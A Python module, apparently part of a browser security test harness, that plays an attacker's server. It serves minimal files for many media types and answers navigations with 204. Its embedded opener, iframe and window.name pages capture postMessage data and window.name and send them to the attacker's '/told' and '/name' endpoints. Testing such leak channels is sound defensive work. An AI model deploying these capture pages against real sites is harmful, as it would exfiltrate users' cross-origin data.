"""Responses of the attacker's server: for each media type, a small file that a browser accepts."""

import base64
import json
import struct
import wave
from io import BytesIO

# The attacker's pages that open the attacked page: in a window, and in a frame.
OPENER = "/opener"
AROUND = "/around"
_PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
    '<g id="part"><rect width="9" height="9"/></g></svg>'
)
# It sends messages repeatedly, because the opened page may have lost its reference to the opener. It forwards every
# message that it receives to the attacker's server.
_OPENER = """<!doctype html><title>Opener</title><script>
let opened;
const address = new URL(location).searchParams.get("open");
const open_it = () => { opened = open(address); setInterval(() => opened.postMessage("knock", "*"), 100); };
addEventListener("message", ({ data }) => fetch("/told?" + encodeURIComponent(String(data))));
</script>"""
_AROUND = """<!doctype html><title>Around</title><body><script>
const frame = document.body.appendChild(document.createElement("iframe"));
frame.src = new URL(location).searchParams.get("open");
addEventListener("message", ({ data }) => fetch("/told?" + encodeURIComponent(String(data))));
</script>"""
_READS_NAME = '<!doctype html><title>Reader</title><script>fetch("/name?" + encodeURIComponent(name))</script>'
_PAGES = {OPENER: _OPENER, AROUND: _AROUND, "/reads-name": _READS_NAME}


def _silence() -> bytes:
    file = BytesIO()
    with wave.open(file, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(1)
        sound.setframerate(8000)
        sound.writeframes(struct.pack("B", 128) * 80)
    return file.getvalue()


_KINDS = {
    "css": ("text/css", b"b{}"),
    "events": ("text/event-stream", b"data: x\n\n"),
    "html": ("text/html", b"<!doctype html><title>Answer</title>"),
    "js": ("text/javascript", b"0;"),
    "json": ("application/json", json.dumps({"name": "x", "accounts": []}).encode()),
    "png": ("image/png", _PIXEL),
    "svg": ("image/svg+xml", _SVG.encode()),
    "vtt": ("text/vtt", b"WEBVTT\n\n"),
    "wav": ("audio/wav", _silence()),
    "xsl": (
        "text/xsl",
        b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
    ),
}


def answer_for(path: str, wanted_as: str) -> tuple[int, str, bytes]:
    """Return status, media type and content for a path; `wanted_as` is the header Sec-Fetch-Dest of the request.

    The response to a navigation is 204 (No Content): the request has arrived, but the browser stays on its page, so
    that the next channel can be tried from there.
    """
    if path in _PAGES:
        return 200, "text/html", _PAGES[path].encode()
    if wanted_as == "document":
        return 204, "text/html", b""
    kind, content = _KINDS.get(path.rpartition(".")[2], ("text/plain", b"x"))
    return 200, kind, content
